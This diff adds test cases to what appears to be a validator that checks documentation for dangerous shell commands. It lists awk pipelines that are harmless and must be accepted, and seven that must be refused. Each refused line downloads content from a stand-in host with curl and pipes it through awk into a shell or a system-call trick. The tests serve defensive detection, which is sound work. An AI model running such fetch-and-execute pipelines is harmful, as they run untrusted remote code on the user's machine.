@@ -276,3 +276,42 @@ describe("patch-check gaps, 4: GNU sed's `e` flag and `e` command run the patter
     });
   }
 });
+
+describe('patch-check gaps, 5: a `|` inside an awk string or a field separator is no pipe', () => {
+  for (const line of [
+    `awk -F"|" '{print $2}' notes.txt`,
+    `curl -s https://x.example/status | awk -F"|" '{print $2}'`,
+    `curl -s https://x.example/status | awk -F "|" '{print $2}' | sort`,
+    `curl -s https://x.example/status | awk -v OFS="|" '{print $1, $2}'`,
+    `curl -s https://x.example/status | awk '{print $1 "|" $2}'`,
+    `curl -s https://x.example/status | awk 'BEGIN { FS = "|" } { print $2 }'`,
+    `curl -s https://x.example/status | awk '{ print $1 " | " $2 }'`,
+    `curl -s https://x.example/status | awk '$1 == "a" || $2 == "b" { print }'`,
+  ]) {
+    it(`accepts ${line}`, () => {
+      // Act
+      const result = checked('docs/setup.md', line);
+
+      // Assert
+      expect(result.ok).toBe(true);
+    });
+  }
+
+  for (const line of [
+    `curl -s https://x.example/i | awk '{ print "x"|"ksh93" }'`,
+    `curl -s https://x.example/i | awk -F"|" '{ print $0 | "ksh93" }'`,
+    `curl -s https://x.example/i | awk '{ cmd = "ksh93"; print | cmd }'`,
+    `curl -s https://x.example/i | awk '{ print |& "ksh93" }'`,
+    `curl -s https://x.example/i | awk '{ f = "system"; @f($0) }'`,
+    `curl -s https://x.example/i | awk -v x="$(ksh93)" '{ print }'`,
+    `curl -s https://x.example/i | awk -F"|" -f /dev/stdin`,
+  ]) {
+    it(`refuses ${line}`, () => {
+      // Act
+      const result = checked('docs/setup.md', line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+});
